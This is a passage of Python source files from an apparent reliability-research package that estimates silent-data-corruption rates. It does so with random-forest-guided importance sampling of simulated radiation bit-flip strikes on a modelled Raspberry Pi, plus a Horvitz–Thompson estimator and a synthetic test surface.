    strike at ``(cell, byte offset, bit)`` *within the cell's region*;
    ``label_fn(value)`` maps a decoded trial value to the 0/1 training
    label (was the strike an SDC?). ``encode``/``decode`` are the
    usual campaign value codecs.
    """

    def __init__(
        self,
        name: str,
        cells: "list[SurfaceCell]",
        trial_fn,
        item_fn,
        label_fn,
        *,
        config: "AdaptiveConfig | None" = None,
        seed: int = 0,
        context: "dict | None" = None,
        encode=None,
        decode=None,
    ) -> None:
        if not cells:
            raise ConfigurationError("adaptive source needs at least one cell")
        self.name = name
        self.cells = list(cells)
        self.trial_fn = trial_fn
        self.item_fn = item_fn
        self.label_fn = label_fn
        self.config = config or AdaptiveConfig()
        self.seed = seed
        self.context = dict(context or {})
        self.encode = encode
        self.decode = decode
        bits = np.array([cell.bits for cell in self.cells], dtype=float)
        if bits.sum() <= 0:
            raise ConfigurationError("cells hold no live bits")
        #: Flux distribution: P(uniform fluence hits cell c).
        self.flux = bits / bits.sum()
        self._features = feature_matrix(self.cells)
        self._cell_index = {cell.label: i for i, cell in enumerate(self.cells)}

    # ------------------------------------------------------------------
    # history digestion
    # ------------------------------------------------------------------
    def _labelled(
        self, history: StreamHistory
    ) -> "tuple[list[int], list[int]]":
        """(cell index, 0/1 label) for every non-quarantined trial."""
        cells: "list[int]" = []
        labels: "list[int]" = []
        for rnd in history.rounds:
            for spec, value in zip(rnd.result.specs, rnd.result.values):
                if value is None:  # quarantined slot: no label
                    continue
                cells.append(self._cell_index[spec.params["cell"]])
                labels.append(1 if self.label_fn(value) else 0)
        return cells, labels

    def estimate(self, history: StreamHistory) -> HTEstimate:
        """Reweighted SDC-rate estimate over everything observed so far.

        Weights come straight from the stored trial params (``f``/``q``
        at planning time), so a replayed history yields the identical
        estimate without re-deriving any proposal.
        """
        pairs: "list[tuple[float, float]]" = []
        for rnd in history.rounds:
            for spec, value in zip(rnd.result.specs, rnd.result.values):
                if value is None:
                    continue
                y = 1.0 if self.label_fn(value) else 0.0
                pairs.append((y, spec.params["f"] / spec.params["q"]))
        return ht_estimate(pairs, confidence=self.config.confidence)

    # ------------------------------------------------------------------
    # proposal
    # ------------------------------------------------------------------
    def proposal(self, history: StreamHistory) -> np.ndarray:
        """The next wave's cell distribution ``q`` (sums to 1).

        Flux-weighted until the model has both a positive and a
        negative label to learn from (and always, when
        ``epsilon == 1.0`` — the uniform baseline); afterwards the
        epsilon-mixture of flux and the variance-optimal
        ``f * sqrt(p_hat)`` allocation.
        """
        cfg = self.config
        if cfg.epsilon >= 1.0:
            return self.flux
        cell_rows, labels = self._labelled(history)
        if not cell_rows or len(set(labels)) < 2:
            return self.flux
        from ..ml import RandomForest

        forest = RandomForest(
            n_trees=cfg.n_trees,
            max_depth=cfg.max_depth,
            min_samples_leaf=cfg.min_samples_leaf,
            task="classification",
            seed=self.seed,
        )
        forest.fit(self._features[cell_rows], np.array(labels, dtype=float))
        p_hat = np.clip(
            forest.predict(self._features), cfg.score_floor, 1.0
        )
        q_model = self.flux * np.sqrt(p_hat)
        q_model /= q_model.sum()
        q = (1.0 - cfg.epsilon) * q_model + cfg.epsilon * self.flux
        return q / q.sum()

    # ------------------------------------------------------------------
    # the TrialSource protocol
    # ------------------------------------------------------------------
    def next_round(self, history: StreamHistory) -> "Campaign | None":
        cfg = self.config
        k = len(history.rounds)
        if k >= cfg.max_rounds:
            return None
        if cfg.target_width is not None and k >= cfg.min_rounds:
            _, labels = self._labelled(history)
            if (
                sum(labels) >= cfg.min_positives
                and self.estimate(history).width <= cfg.target_width
            ):
                return None

        rseed = round_seed(self.seed, k, history.digest)
        q = self.proposal(history)
        rng = np.random.default_rng(rseed)
        trials: "list[Trial]" = []
        for draw in range(cfg.wave_size):
            c = int(rng.choice(len(self.cells), p=q))
            cell = self.cells[c]
            position = cell.start_bit + int(rng.integers(0, cell.bits))
            offset, bit = position // 8, position % 8
            trials.append(
                Trial(
                    params={
                        "round": k,
                        "draw": draw,
                        "cell": cell.label,
                        "domain": cell.domain,
                        "region": cell.region,
                        "offset": offset,
                        "bit": bit,
                        "f": float(self.flux[c]),
                        "q": float(q[c]),
                    },
                    item=self.item_fn(cell, offset, bit),
                )
            )
        return Campaign(
            name=f"{self.name}/round{k:03d}",
            trial_fn=self.trial_fn,
            trials=trials,
            seed=rseed,
            context={
                **self.context,
                "stream": self.name,
                "round": k,
                "parent_digest": history.digest,
            },
            encode=self.encode,
            decode=self.decode,
        )
