"""Featurizing fault-surface targets for the sensitivity model.

The adaptive sampler does not learn per-*bit* sensitivities — a LEO
mission's surface holds millions of bits and each trial labels exactly
one. It learns per-**cell**: a :class:`SurfaceCell` is one offset band
of one census region (:class:`repro.sim.faults.CensusEntry`), carrying
the features the paper's threat model says should predict sensitivity
— protection class, sharing scope, component kind, live size, and
where in the region the band sits. Cells are the sampling atoms
(:mod:`repro.adaptive.sampler` importance-samples cells, then strikes
a uniform bit inside the chosen band) and the model's training rows
(one labelled row per completed trial).

The feature vector is deliberately small and fixed-width
(:data:`FEATURE_NAMES`) so a few dozen labelled trials are enough for
the :class:`repro.ml.RandomForest` to separate "SECDED-scrubbed DRAM
heap" from "unprotected core state" — the separation SSRESF exploits
to cut trials by orders of magnitude.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from ..errors import ConfigurationError
from ..sim.faults import PROTECTION_CLASSES, CensusEntry

__all__ = [
    "FEATURE_NAMES",
    "SurfaceCell",
    "cells_from_census",
    "feature_matrix",
]

#: Domain-kind buckets the one-hot component feature distinguishes.
#: A domain name maps to the first bucket whose prefix matches;
#: anything else lands in "other" (radio buffers, vote planes, ...).
_DOMAIN_KINDS = ("dram", "l1", "l2", "flash", "core")


def _domain_kind(domain: str) -> str:
    for kind in _DOMAIN_KINDS:
        if domain == kind or domain.startswith((f"{kind}[", f"{kind}0",
                                                f"{kind}1", f"{kind}2",
                                                f"{kind}3")):
            return kind
    return "other"


#: Column names of :func:`feature_matrix`, in order.
FEATURE_NAMES = tuple(
    [f"protection={p}" for p in PROTECTION_CLASSES]
    + ["scope=shared", "log2_region_bits", "band_center"]
    + [f"kind={k}" for k in (*_DOMAIN_KINDS, "other")]
)


@dataclass(frozen=True)
class SurfaceCell:
    """One offset band of one census region: the sampling atom.

    ``start_bit``/``bits`` delimit the band inside the region's live
    bit span; ``band``/``n_bands`` locate it for the band-position
    feature. Flux weight is proportional to ``bits`` (uniform fluence
    hits a band in proportion to its live area).
    """

    domain: str
    region: str
    protection: str
    scope: str
    die_bucket: "str | None"
    region_bits: int
    band: int
    n_bands: int
    start_bit: int
    bits: int

    @property
    def label(self) -> str:
        return f"{self.domain}.{self.region}[{self.band}/{self.n_bands}]"

    def features(self) -> "list[float]":
        """Fixed-width numeric feature vector (:data:`FEATURE_NAMES`)."""
        out = [1.0 if self.protection == p else 0.0 for p in PROTECTION_CLASSES]
        out.append(1.0 if self.scope == "shared" else 0.0)
        out.append(float(np.log2(max(1, self.region_bits))))
        out.append((self.band + 0.5) / self.n_bands)
        kind = _domain_kind(self.domain)
        out.extend(
            1.0 if kind == k else 0.0 for k in (*_DOMAIN_KINDS, "other")
        )
        return out

    def to_params(self) -> dict:
        """JSON-safe identity for trial params / round context."""
        return {
            "domain": self.domain,
            "region": self.region,
            "band": self.band,
            "n_bands": self.n_bands,
            "start_bit": self.start_bit,
            "bits": self.bits,
        }


def cells_from_census(
    entries: "tuple[CensusEntry, ...]",
    band_bits: int = 4096,
    max_bands: int = 8,
) -> "list[SurfaceCell]":
    """Split a live census into banded sampling cells, census order.

    Each region with live bits becomes up to ``max_bands`` contiguous
    offset bands of roughly ``band_bits`` bits each (small regions
    stay a single band; zero-bit regions — dead silicon — are
    dropped). Band edges are deterministic functions of the census, so
    two processes looking at the same machine derive identical cells.
    """
    if band_bits < 1 or max_bands < 1:
        raise ConfigurationError("band_bits and max_bands must be >= 1")
    cells: "list[SurfaceCell]" = []
    for entry in entries:
        region = entry.region
        if region.bits <= 0:
            continue
        n_bands = min(max_bands, max(1, region.bits // band_bits))
        edges = [round(i * region.bits / n_bands) for i in range(n_bands + 1)]
        for band in range(n_bands):
            start, stop = edges[band], edges[band + 1]
            if stop <= start:
                continue
            cells.append(
                SurfaceCell(
                    domain=entry.domain,
                    region=region.name,
                    protection=region.protection,
                    scope=region.scope,
                    die_bucket=region.die_bucket,
                    region_bits=region.bits,
                    band=band,
                    n_bands=n_bands,
                    start_bit=start,
                    bits=stop - start,
                )
            )
    return cells


def feature_matrix(cells: "list[SurfaceCell]") -> np.ndarray:
    """Design matrix, one row per cell (:data:`FEATURE_NAMES` columns)."""
    if not cells:
        raise ConfigurationError("no cells to featurize")
    return np.array([cell.features() for cell in cells], dtype=float)
