"""Horvitz–Thompson reweighting for importance-sampled campaigns.

The quantity every fault campaign ultimately reports is the
**flux-weighted SDC rate**

    mu = sum_c f_c * p_c

— the probability that a particle drawn from the uniform-fluence
distribution (cell ``c`` with probability ``f_c``, its live-bit share)
causes silent data corruption (``p_c``). Uniform campaigns estimate
``mu`` by striking cells with probability ``f_c`` and averaging the
0/1 outcomes. The adaptive sampler strikes cell ``c`` with a
*different*, model-informed probability ``q_c`` — so the raw SDC
fraction of its trials is biased (it over-counts sensitive cells on
purpose). The Horvitz–Thompson estimator removes exactly that bias:

    z_i = (f_{c_i} / q_{c_i}) * y_i,        mu_hat = mean(z_i)

``E[z] = sum_c q_c (f_c/q_c) p_c = mu`` for *any* ``q`` that gives
every flux-bearing cell non-zero probability — which the sampler's
epsilon-mixture guarantees. Its variance is
``Var(z) = sum_c f_c^2 p_c / q_c - mu^2``, minimized (Lagrange on
``sum q = 1``) at ``q* ∝ f_c * sqrt(p_c)`` — the allocation the
sampler targets with the model's predicted sensitivities. When
sensitivity is heterogeneous (a few small unprotected regions carry
most of the SDC mass — exactly the Radshield threat model), ``q*``
shrinks the variance by orders of magnitude relative to uniform
``q = f``, which is where the trials-to-target-CI-width win comes
from.

Confidence intervals use the same machinery for both samplers
(mean ± z * sd/sqrt(n) over the ``z_i`` sample; for uniform sampling
``z_i = y_i`` and this degenerates to the textbook binomial-normal
interval), so adaptive and uniform widths are directly comparable.
"""

from __future__ import annotations

import math
from dataclasses import dataclass

from ..errors import ConfigurationError

__all__ = ["HTEstimate", "ht_estimate", "normal_quantile"]


def normal_quantile(p: float) -> float:
    """Standard-normal inverse CDF (Acklam's rational approximation).

    Deterministic, dependency-free, |error| < 1.2e-9 over (0, 1) —
    used for CI z-values so the stopping rule never depends on scipy
    being importable in a stripped container.
    """
    if not 0.0 < p < 1.0:
        raise ConfigurationError(f"quantile needs 0 < p < 1, got {p}")
    # Coefficients for the central and tail rational approximations.
    a = (-3.969683028665376e+01, 2.209460984245205e+02,
         -2.759285104469687e+02, 1.383577518672690e+02,
         -3.066479806614716e+01, 2.506628277459239e+00)
    b = (-5.447609879822406e+01, 1.615858368580409e+02,
         -1.556989798598866e+02, 6.680131188771972e+01,
         -1.328068155288572e+01)
    c = (-7.784894002430293e-03, -3.223964580411365e-01,
         -2.400758277161838e+00, -2.549732539343734e+00,
         4.374664141464968e+00, 2.938163982698783e+00)
    d = (7.784695709041462e-03, 3.224671290700398e-01,
         2.445134137142996e+00, 3.754408661907416e+00)
    p_low = 0.02425
    if p < p_low:
        q = math.sqrt(-2.0 * math.log(p))
        return (((((c[0] * q + c[1]) * q + c[2]) * q + c[3]) * q + c[4]) * q + c[5]) / \
            ((((d[0] * q + d[1]) * q + d[2]) * q + d[3]) * q + 1.0)
    if p > 1.0 - p_low:
        q = math.sqrt(-2.0 * math.log(1.0 - p))
        return -(((((c[0] * q + c[1]) * q + c[2]) * q + c[3]) * q + c[4]) * q + c[5]) / \
            ((((d[0] * q + d[1]) * q + d[2]) * q + d[3]) * q + 1.0)
    q = p - 0.5
    r = q * q
    return (((((a[0] * r + a[1]) * r + a[2]) * r + a[3]) * r + a[4]) * r + a[5]) * q / \
        (((((b[0] * r + b[1]) * r + b[2]) * r + b[3]) * r + b[4]) * r + 1.0)


@dataclass(frozen=True)
class HTEstimate:
    """A reweighted rate estimate with its normal-theory interval."""

    n: int
    estimate: float
    se: float
    confidence: float

    @property
    def width(self) -> float:
        """Full CI width: ``2 * z_{(1+conf)/2} * se`` (inf until n >= 2)."""
        if not math.isfinite(self.se):
            return math.inf
        return 2.0 * normal_quantile(0.5 + self.confidence / 2.0) * self.se

    @property
    def interval(self) -> "tuple[float, float]":
        half = self.width / 2.0
        return (self.estimate - half, self.estimate + half)

    def to_dict(self) -> dict:
        return {
            "n": self.n,
            "estimate": self.estimate,
            "se": self.se if math.isfinite(self.se) else None,
            "confidence": self.confidence,
            "width": self.width if math.isfinite(self.width) else None,
        }


def ht_estimate(
    pairs: "list[tuple[float, float]]",
    confidence: float = 0.95,
) -> HTEstimate:
    """Fold ``(y_i, w_i)`` trial outcomes into the reweighted estimate.

    ``y_i`` is the 0/1 outcome (was the strike an SDC?), ``w_i`` the
    trial's importance weight ``f/q`` (1.0 for uniform sampling).
    Returns mean and standard error of ``z_i = w_i * y_i``; with
    fewer than two trials the SE (and CI width) is infinite, which
    the stopping rule reads as "keep sampling".
    """
    if not 0.0 < confidence < 1.0:
        raise ConfigurationError("confidence must be in (0, 1)")
    n = len(pairs)
    if n == 0:
        return HTEstimate(n=0, estimate=0.0, se=math.inf, confidence=confidence)
    z = [w * y for y, w in pairs]
    mean = sum(z) / n
    if n < 2:
        return HTEstimate(n=n, estimate=mean, se=math.inf, confidence=confidence)
    var = sum((v - mean) ** 2 for v in z) / (n - 1)
    return HTEstimate(
        n=n,
        estimate=mean,
        se=math.sqrt(var / n),
        confidence=confidence,
    )
