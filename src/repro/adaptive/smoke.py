"""The smoke surface: a synthetic census with known sensitivities.

CI needs to prove the adaptive sampler's claim — target CI width in
at most half the uniform baseline's trials — without paying for
thousands of real machine simulations. This module builds a
Table-7-shaped *synthetic* fault surface whose per-cell SDC
probabilities are known in closed form, so:

* each trial is a seeded Bernoulli draw (microseconds, not a full
  workload run under injection);
* the exact flux-weighted SDC rate ``mu = sum f_c p_c`` is computable
  (:func:`make_smoke_source` returns it), which is what the
  estimator-unbiasedness test compares against;
* the sensitivity structure matches the Radshield threat model the
  importance sampler exploits: most flux mass lands on protected or
  dead state (SECDED DRAM heap, scrubbed L2/flash) with ``p = 0``,
  while a small unprotected stack region carries nearly all the SDC
  mass — exactly the heterogeneity that makes ``q ∝ f * sqrt(p)``
  collapse the estimator variance.

The smoke trial function draws its outcome from the trial's own
pinned generator, so smoke streams inherit the full campaign
determinism contract (resumable, byte-identical at any worker count)
and exercise every stream/store/digest code path the real strike
campaigns use.
"""

from __future__ import annotations

from ..sim.faults import CensusEntry, FaultRegion
from .features import SurfaceCell, cells_from_census
from .sampler import AdaptiveConfig, AdaptiveSource

__all__ = [
    "make_smoke_source",
    "smoke_census",
    "smoke_label",
    "smoke_sensitivity",
    "smoke_trial",
]

#: The synthetic census: (domain, region, live bits, protection,
#: scope, die bucket). Shaped like a warmed rpi_zero2w census — a
#: large protected heap, scrubbed cache/flash planes, and two small
#: unprotected spans (stack words, core register file).
_SMOKE_REGIONS = (
    ("dram", "heap", 1 << 20, "secded", "shared", None),
    ("dram", "stack", 1 << 16, "none", "shared", None),
    ("l2", "lines", 1 << 18, "scrubbed", "shared", "shared_cache"),
    ("flash", "pages", 1 << 19, "scrubbed", "shared", None),
    ("core0", "regfile", 1 << 12, "none", "private", "pipelines"),
)


def smoke_census() -> "tuple[CensusEntry, ...]":
    """The synthetic surface as census entries (no machine needed)."""
    return tuple(
        CensusEntry(
            domain=domain,
            region=FaultRegion(
                name=region, bits=bits, protection=protection,
                scope=scope, die_bucket=bucket,
            ),
        )
        for domain, region, bits, protection, scope, bucket in _SMOKE_REGIONS
    )


def smoke_sensitivity(cell: SurfaceCell) -> float:
    """Ground-truth P(SDC) for a strike landing in ``cell``.

    Protected planes mask everything. The unprotected stack is the
    hotspot, with a mild gradient across offset bands (deeper frames
    hold more live pointers) so the model has sub-region structure to
    learn; the register file is a small, moderately sensitive span.
    """
    if cell.domain == "dram" and cell.region == "stack":
        return 0.55 + 0.2 * ((cell.band + 0.5) / cell.n_bands)
    if cell.domain == "core0" and cell.region == "regfile":
        return 0.12
    return 0.0


def smoke_trial(item: dict, rng, tracer=None) -> dict:
    """One synthetic strike: a Bernoulli draw at the cell's true rate.

    Top-level and picklable like every campaign trial function; the
    outcome comes from the trial's pinned generator, so the stream is
    deterministic at any worker count.
    """
    return {"sdc": int(rng.random() < item["p"])}


def smoke_label(value: dict) -> bool:
    """Decoded trial value -> was the strike an SDC?"""
    return bool(value["sdc"])


def _smoke_item(cell: SurfaceCell, offset: int, bit: int) -> dict:
    return {"p": smoke_sensitivity(cell)}


def make_smoke_source(
    seed: int = 0,
    *,
    config: "AdaptiveConfig | None" = None,
    name: str = "adaptive-smoke",
    epsilon: "float | None" = None,
) -> "tuple[AdaptiveSource, float]":
    """Build the smoke stream; returns ``(source, true_rate)``.

    ``epsilon`` overrides the config's exploration share —
    ``epsilon=1.0`` is the uniform baseline (same cells, same
    stopping rule, flux-weighted forever). Give baseline runs a
    distinct ``name``: the name enters every fingerprint, so adaptive
    and uniform streams sharing one store never collide.
    """
    cells = cells_from_census(smoke_census(), band_bits=1 << 14, max_bands=4)
    if config is None:
        config = AdaptiveConfig(
            wave_size=32,
            max_rounds=64,
            min_rounds=2,
            target_width=0.015,
            epsilon=0.1,
            score_floor=0.001,
            n_trees=30,
            max_depth=8,
            min_samples_leaf=1,
        )
    if epsilon is not None:
        from dataclasses import replace

        config = replace(config, epsilon=epsilon)
    source = AdaptiveSource(
        name,
        cells,
        smoke_trial,
        _smoke_item,
        smoke_label,
        config=config,
        seed=seed,
        context={"surface": "smoke"},
    )
    true_rate = float(
        sum(
            float(f) * smoke_sensitivity(cell)
            for f, cell in zip(source.flux, cells)
        )
    )
    return source, true_rate
