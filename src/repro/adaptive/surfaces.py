"""Named adaptive surfaces, shared by the CLI, CI checks, and bench.

Trial fingerprints hash the campaign name, params, and seeds — so two
processes only share a store if they build *identical* sources. Every
entry point (``repro adaptive run/status``,
``scripts/check_adaptive.py``, ``scripts/bench_perf.py``) goes
through :func:`build_source` for exactly that reason: same arguments,
same source, fingerprint-for-fingerprint.

The ``uniform`` flag is the baseline sampler: ``epsilon = 1.0`` (every
wave flux-weighted, the model never trains) under a ``-uniform`` name
suffix, so adaptive and baseline streams sharing one store never
collide.
"""

from __future__ import annotations

from dataclasses import replace

from ..errors import ConfigurationError

__all__ = ["SURFACES", "build_source"]

#: surface name -> what the stream strikes.
SURFACES = {
    "smoke": "synthetic census with known sensitivities (CI-fast)",
    "table7": "pinned strikes on the warmed rpi_zero2w machine",
}


def build_source(
    surface: str,
    *,
    seed: int = 0,
    uniform: bool = False,
    wave_size: "int | None" = None,
    max_rounds: "int | None" = None,
    target_width: "float | None" = None,
    epsilon: "float | None" = None,
):
    """Build a named surface's stream; returns ``(source, true_rate)``.

    ``true_rate`` is the closed-form flux-weighted SDC rate where the
    surface has one (smoke), else ``None``. ``target_width <= 0``
    means "no width stop: run all ``max_rounds``".
    """
    if surface == "smoke":
        from .smoke import make_smoke_source

        source, true_rate = make_smoke_source(
            seed=seed,
            name="adaptive-smoke-uniform" if uniform else "adaptive-smoke",
            epsilon=1.0 if uniform else epsilon,
        )
    elif surface == "table7":
        from ..experiments.table7_adaptive import source as table7_source

        source, true_rate = table7_source(seed=seed), None
        if uniform:
            source.name = f"{source.name}-uniform"
            source.config = replace(source.config, epsilon=1.0)
        elif epsilon is not None:
            source.config = replace(source.config, epsilon=epsilon)
    else:
        raise ConfigurationError(
            f"unknown surface {surface!r}; known: {', '.join(SURFACES)}"
        )

    overrides: "dict[str, object]" = {}
    if wave_size is not None:
        overrides["wave_size"] = wave_size
    if max_rounds is not None:
        overrides["max_rounds"] = max_rounds
        overrides["min_rounds"] = min(source.config.min_rounds, max_rounds)
    if target_width is not None:
        overrides["target_width"] = target_width if target_width > 0 else None
    if overrides:
        source.config = replace(source.config, **overrides)
    return source, true_rate
