"""ML importance-sampled fault campaigns over the round-based stream.

The SSRESF closed loop on Radshield's fault surface: featurize census
targets (:mod:`repro.adaptive.features`), train a
:class:`repro.ml.RandomForest` sensitivity model on accumulated trial
outcomes each round, drive importance-sampled strike waves at the
predicted-sensitive cells (:mod:`repro.adaptive.sampler`), and
reweight the SDC-rate estimate with Horvitz–Thompson so confidence
intervals stay comparable to uniform flux-weighted sampling
(:mod:`repro.adaptive.estimator`). Backends:
:mod:`repro.adaptive.strikes` (pinned strikes on the real simulated
machine) and :mod:`repro.adaptive.smoke` (a synthetic surface with
known sensitivities, for CI and calibration).

Everything rides :mod:`repro.campaign.stream`: an
:class:`AdaptiveSource` is a ``TrialSource`` whose rounds are plain
campaigns, so adaptive runs are resumable and byte-identical at any
worker count for free. See ``docs/adaptive.md``.
"""

from .estimator import HTEstimate, ht_estimate, normal_quantile
from .features import (
    FEATURE_NAMES,
    SurfaceCell,
    cells_from_census,
    feature_matrix,
)
from .sampler import AdaptiveConfig, AdaptiveSource
from .smoke import make_smoke_source, smoke_census, smoke_sensitivity
from .strikes import (
    PinnedStrikeTask,
    StrikeOutcome,
    reference_cells,
    run_pinned_strike,
    strike_is_sdc,
)
from .surfaces import SURFACES, build_source

__all__ = [
    "AdaptiveConfig",
    "AdaptiveSource",
    "FEATURE_NAMES",
    "HTEstimate",
    "PinnedStrikeTask",
    "SURFACES",
    "StrikeOutcome",
    "SurfaceCell",
    "build_source",
    "cells_from_census",
    "feature_matrix",
    "ht_estimate",
    "make_smoke_source",
    "normal_quantile",
    "reference_cells",
    "run_pinned_strike",
    "smoke_census",
    "smoke_sensitivity",
    "strike_is_sdc",
]
