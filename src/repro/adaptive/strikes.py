"""Pinned-address strike trials: the adaptive sampler's real backend.

Where the Table 7 injector (:mod:`repro.radiation.injector`) samples
its own target per trial, the adaptive sampler needs the opposite:
the *planner* picks the exact ``(domain, region, offset, bit)``
address (importance-sampled over census cells) and the trial must
strike precisely there. :func:`run_pinned_strike` runs one such
trial: a fresh machine, the workload under the unprotected scheme
(``none`` — the scheme whose SDC surface the sensitivity model
learns), one strike through
:meth:`repro.sim.faults.FaultSurface.strike` at a uniformly-chosen
job ordinal, then the standard Table 7 outcome taxonomy.

A planned address may not be live when the strike fires — the census
the planner featurized is a snapshot of a *warmed reference machine*
(:func:`reference_cells`), while occupancy during the actual run
varies with phase. Those strikes raise
:class:`~repro.errors.InvalidAddressError` / ``SimulationError`` and
are classified ``NO_EFFECT`` (dead silicon), exactly as the Table 7
injector treats a particle landing on unoccupied state.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..core.emr.baselines import single_run
from ..core.emr.jobs import Job
from ..core.emr.runtime import EmrConfig, EmrHooks
from ..errors import (
    DetectedFaultError,
    InvalidAddressError,
    SimulationError,
)
from ..radiation.events import OutcomeClass
from ..sim.machine import Machine
from ..workloads.base import Workload, WorkloadSpec
from .features import SurfaceCell, cells_from_census

__all__ = [
    "PinnedStrikeTask",
    "StrikeOutcome",
    "decode_strike",
    "encode_strike",
    "reference_cells",
    "run_pinned_strike",
    "strike_is_sdc",
]


@dataclass(frozen=True)
class PinnedStrikeTask:
    """Everything one pinned strike needs, picklable for the pool."""

    workload: Workload
    spec: WorkloadSpec
    golden: "tuple[bytes, ...]"
    domain: str
    region: str
    offset: int
    bit: int
    machine_factory: "object" = Machine.rpi_zero2w
    replication_threshold: float = 0.2


@dataclass
class StrikeOutcome:
    """One pinned strike's classification (Table 7 taxonomy)."""

    outcome: OutcomeClass
    detail: str


class _PinnedStrikeHooks(EmrHooks):
    """Fires exactly one strike at a pinned address and job ordinal."""

    def __init__(
        self, machine: Machine, task: PinnedStrikeTask, job_ordinal: int
    ) -> None:
        self.machine = machine
        self.task = task
        self.job_ordinal = job_ordinal
        self.applied = False
        self.detail = "never fired"
        self._counter = 0

    def before_job(self, runtime, job: Job) -> None:
        if self._counter == self.job_ordinal and not self.applied:
            self._apply()
        self._counter += 1

    def _apply(self) -> None:
        task = self.task
        self.applied = True
        try:
            record = self.machine.fault_surface.strike(
                task.domain, task.region, task.offset, task.bit
            )
        except (InvalidAddressError, SimulationError) as exc:
            # The planned address is not live in this run phase: the
            # particle hit dead silicon.
            self.detail = f"dead silicon: {exc}"
            return
        self.detail = str(record)


def run_pinned_strike(
    task: PinnedStrikeTask, rng, tracer=None
) -> StrikeOutcome:
    """One pinned-strike trial: fresh machine, one strike, one outcome.

    Pure in ``(task, rng)`` like every campaign trial function. The
    strike fires before a uniformly-chosen job (time-uniform within
    the run, matching the paper's injection protocol); only the
    *address* is importance-sampled, and that bias is what the
    Horvitz–Thompson weights correct.
    """
    machine = task.machine_factory()
    n_jobs = max(1, len(task.spec.datasets))
    hooks = _PinnedStrikeHooks(machine, task, int(rng.integers(0, n_jobs)))
    config = EmrConfig(
        replication_threshold=task.replication_threshold,
        raise_on_inconclusive=True,
    )
    error: "str | None" = None
    result = None
    try:
        result = single_run(
            machine, task.workload, spec=task.spec, config=config,
            hooks=hooks,
        )
    except DetectedFaultError as exc:
        error = str(exc)

    if error is not None:
        outcome = OutcomeClass.ERROR
    elif result.stats.detected_faults:
        outcome = OutcomeClass.ERROR
    elif not result.matches(list(task.golden)):
        outcome = OutcomeClass.SDC
    elif result.stats.vote_corrections > 0:
        outcome = OutcomeClass.CORRECTED
    else:
        outcome = OutcomeClass.NO_EFFECT
    return StrikeOutcome(outcome=outcome, detail=error or hooks.detail)


def encode_strike(outcome: StrikeOutcome) -> dict:
    return {"outcome": outcome.outcome.value, "detail": outcome.detail}


def decode_strike(data: dict) -> StrikeOutcome:
    return StrikeOutcome(
        outcome=OutcomeClass(data["outcome"]), detail=data["detail"]
    )


def strike_is_sdc(value: StrikeOutcome) -> bool:
    """The sensitivity model's training label."""
    return value.outcome is OutcomeClass.SDC


def reference_cells(
    workload: Workload,
    spec: WorkloadSpec,
    machine_factory=Machine.rpi_zero2w,
    *,
    band_bits: int = 1 << 14,
    max_bands: int = 4,
) -> "list[SurfaceCell]":
    """Census cells of a machine warmed by one reference run.

    Runs ``workload`` once (no strike) on a fresh machine so caches,
    DRAM and flash hold representative live state, then bands the
    resulting census. Deterministic for a given
    ``(workload, spec, factory)``, so every process plans over
    identical cells.
    """
    machine = machine_factory()
    single_run(
        machine, workload, spec=spec,
        config=EmrConfig(raise_on_inconclusive=True),
    )
    return cells_from_census(
        machine.fault_surface.census(), band_bits=band_bits,
        max_bands=max_bands,
    )
