"""Deterministic parallel experiment engine.

Every paper artifact in this reproduction (the fault-injection
campaigns, the calibration sweep, the misdetection and accuracy
figures) is an embarrassingly parallel Monte-Carlo loop. This module
gives those drivers one primitive, :func:`pmap`, with a hard
determinism contract:

* **Randomness is split, never shared.** When a ``seed`` is given,
  each task receives its own :class:`numpy.random.Generator` built
  from ``numpy.random.SeedSequence(seed).spawn(n)[i]``. Task *i*'s
  stream depends only on ``(seed, i)`` — not on how many workers ran,
  which process picked the task up, or what any other task consumed —
  so parallel results are bit-identical to serial results.
* **``workers=1`` is a pure fallback.** The serial path is a plain
  in-process loop over the same spawned generators; no pool, no
  pickling, no import-time side effects.
* **Graceful degradation.** If the host has too few CPUs, fork is
  unavailable (e.g. Windows), or the pool cannot be created, the call
  silently degrades to the in-process loop and still returns the
  same values.

Task functions must be *top-level* callables (picklable by qualified
name) and pure in their arguments: ``fn(item, rng)`` when a seed is
given, ``fn(item)`` otherwise. Per-task wall time and the executing
PID are captured for every task; :func:`pmap_report` exposes them so
benchmarks can attribute cost.

**Tracing.** When ``trace_path`` is given, every task additionally
receives a fresh in-memory :class:`repro.obs.TraceRecorder` as its
last argument (``fn(item, rng, tracer)``); the records each task
emitted ride back with its result and are merged into one JSON-lines
file *in task order*, each line stamped with its task index. Because
record content carries only simulated time (never PIDs or wall
clocks) and the merge order is the task order, the merged trace is
byte-identical at any ``workers`` setting.
"""

from __future__ import annotations

import multiprocessing
import os
import time
from dataclasses import dataclass
from typing import TYPE_CHECKING

import numpy as np

from .errors import ConfigurationError

if TYPE_CHECKING:  # pragma: no cover - typing only
    from .ground.supervision import QuarantinedTask
    from .obs.trace import TraceRecord

__all__ = [
    "TaskTiming",
    "ParallelReport",
    "pmap",
    "pmap_report",
    "resolve_workers",
    "spawn_generators",
]


@dataclass(frozen=True)
class TaskTiming:
    """Wall-clock accounting for one task."""

    index: int
    seconds: float
    pid: int


@dataclass(frozen=True)
class ParallelReport:
    """Everything :func:`pmap` learned while running a batch.

    The last five fields are populated only by supervised runs
    (``supervision=`` / :mod:`repro.ground`): quarantined tasks carry
    ``None`` in ``values`` and their identities ride in
    ``quarantined`` (:class:`repro.ground.supervision.QuarantinedTask`
    entries); ``ground_events`` holds per-task host-fault trace
    records (retries, timeouts, worker losses) aligned to the input
    order.
    """

    values: "list[object]"
    timings: "tuple[TaskTiming, ...]"
    workers: int  # effective worker count actually used
    mode: str  # "serial", "fork-pool", "ground-pool", or "ground-serial"
    wall_seconds: float
    quarantined: "tuple[QuarantinedTask, ...]" = ()
    retries: int = 0
    timeouts: int = 0
    worker_losses: int = 0
    serial_fallback: bool = False
    ground_events: "tuple[list[TraceRecord], ...]" = ()

    @property
    def task_seconds(self) -> float:
        """Sum of per-task times (CPU-side cost, ignoring overlap)."""
        return sum(t.seconds for t in self.timings)


def spawn_generators(seed, n: int) -> "list[np.random.Generator]":
    """``n`` independent generators from one root seed.

    The *i*-th generator depends only on ``(seed, i)``; this is the
    primitive :func:`pmap` uses, exposed for drivers that manage their
    own loops but want the same determinism contract.
    """
    if n < 0:
        raise ConfigurationError(f"cannot spawn {n} generators")
    root = seed if isinstance(seed, np.random.SeedSequence) else np.random.SeedSequence(seed)
